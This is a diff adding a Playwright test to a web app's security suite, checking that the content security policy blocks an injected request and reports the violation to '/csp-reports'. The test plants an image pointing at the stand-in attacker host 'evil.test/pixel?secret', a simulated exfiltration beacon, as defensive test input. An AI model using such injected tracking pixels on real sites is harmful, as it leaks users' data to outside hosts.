@@ -65,3 +65,18 @@ test('a script typed into any field stays text', async ({ page, expects }) => {
   expect(fields, 'fields there are').toBeGreaterThan(15);
   expect(ran).toEqual([]);
 });
+
+/** row: S-17 */
+test('what the policy forbids is not done, and told', async ({ page, expects }) => {
+  expects.push(/content security policy/i, /ERR_BLOCKED_BY_CSP/);
+  await page.goto('/');
+  await settled(page);
+  const told = page.waitForRequest((request) => request.url().endsWith('/csp-reports'));
+  await page.evaluate(() => {
+    const picture = document.createElement('img');
+    picture.src = 'https://evil.test/pixel?secret';
+    document.body.append(picture);
+  });
+  const request = await told;
+  expect((await request.response())?.status()).toBe(204);
+});
